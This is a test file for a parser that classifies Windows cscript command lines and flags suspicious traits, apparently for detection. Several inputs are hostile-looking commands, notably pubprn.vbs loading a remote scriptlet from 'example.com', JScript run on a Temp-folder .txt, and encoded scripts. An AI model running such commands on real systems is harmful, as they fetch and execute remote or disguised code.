import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('cscript', () => {
  test.each([
    [
      'cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dlv',
      'cscript //nologo <system>\\slmgr.vbs /dlv',
      'cscript|script|system|vbs',
      [],
      'slmgr.vbs',
    ],
    [
      '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
      'cscript /nologo monitorknowledgediscovery.vbs',
      'cscript|script|bare|vbs',
      [],
      'monitorknowledgediscovery.vbs',
    ],
    [
      'cscript.exe //E:jscript C:\\Users\\ann\\AppData\\Local\\Temp\\a.txt',
      'cscript //e:jscript <user-temp>\\*.txt',
      'cscript|engine|user-temp|txt',
      ['user-temp', 'odd-extension'],
      'a.txt',
    ],
    [
      'cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct',
      'cscript <system>\\printing_admin_scripts\\en-us\\pubprn.vbs <ip> script:https://example.com/*.sct',
      'cscript|script|system|vbs',
      ['scriptlet', 'remote-url'],
      'pubprn.vbs',
    ],
    [
      'cscript //B //T:30 \\\\dc01\\netlogon\\logon.vbs 4711',
      'cscript //b //t:<n> <unc>\\<domain>\\netlogon\\logon.vbs <n>',
      'cscript|script|unc|vbs',
      ['domain-share'],
      'logon.vbs',
    ],
    [
      'cscript //nologo K:\\Tools\\points.vbs "K:\\Projects\\2026\\North bridge\\Survey 7.csv" C:\\Users\\ann\\Documents\\out.txt',
      'cscript //nologo <root-folder>\\tools\\points.vbs <root-folder>\\*.csv <documents>\\*.txt',
      'cscript|script|root-folder|vbs',
      ['root-folder'],
      'points.vbs',
    ],
    [
      'cscript C:\\tools\\run.vbs C:\\tools\\next.vbs "C:\\Program Files\\Vendor\\list.txt"',
      'cscript <root-folder>\\tools\\run.vbs <root-folder>\\tools\\next.vbs <program-files>\\vendor\\list.txt',
      'cscript|script|root-folder|vbs',
      ['root-folder'],
      'run.vbs',
    ],
    [
      'cscript C:\\Windows\\System32\\winrm.vbs get winrm/config -format:pretty',
      'cscript <system>\\winrm.vbs get winrm/config /format:pretty',
      'cscript|script|system|vbs',
      [],
      'winrm.vbs',
    ],
    [
      'cscript //nologo C:\\tools\\a.cmd',
      'cscript //nologo <root-folder>\\tools\\a.cmd',
      'cscript|script|root-folder|cmd',
      ['root-folder'],
      'a.cmd',
    ],
    [
      'cscript //nologo //e:vbscript C:\\tools\\a.cmd',
      'cscript //nologo //e:vbscript <root-folder>\\tools\\a.cmd',
      'cscript|engine|root-folder|cmd',
      ['root-folder', 'odd-extension'],
      'a.cmd',
    ],
    [
      'cscript .\\report.vbe',
      'cscript <relative>\\.\\report.vbe',
      'cscript|script|relative|vbe',
      ['encoded-script'],
      'report.vbe',
    ],
    [
      'cscript //e:jscript.encode C:\\tools\\a.js',
      'cscript //e:jscript.encode <root-folder>\\tools\\a.js',
      'cscript|engine|root-folder|js',
      ['root-folder', 'encoded-script'],
      'a.js',
    ],
    [
      'cscript C:\\Windows\\System32\\manage-bde.wsf',
      'cscript <system>\\manage-bde.wsf',
      'cscript|script|system|wsf',
      ['launches-program'],
      'manage-bde.wsf',
    ],
    [
      'cscript C:\\Windows\\System32\\manage-bde.wsf -status',
      'cscript <system>\\manage-bde.wsf /status',
      'cscript|script|system|wsf',
      [],
      'manage-bde.wsf',
    ],
    ['cscript', 'cscript', 'cscript|none|-|-', [], null],
  ])('%s', (line, pattern, shape, facts, hosted) => {
    expect(readToolUse('cscript.exe', line, 'C:\\Windows\\System32\\cscript.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
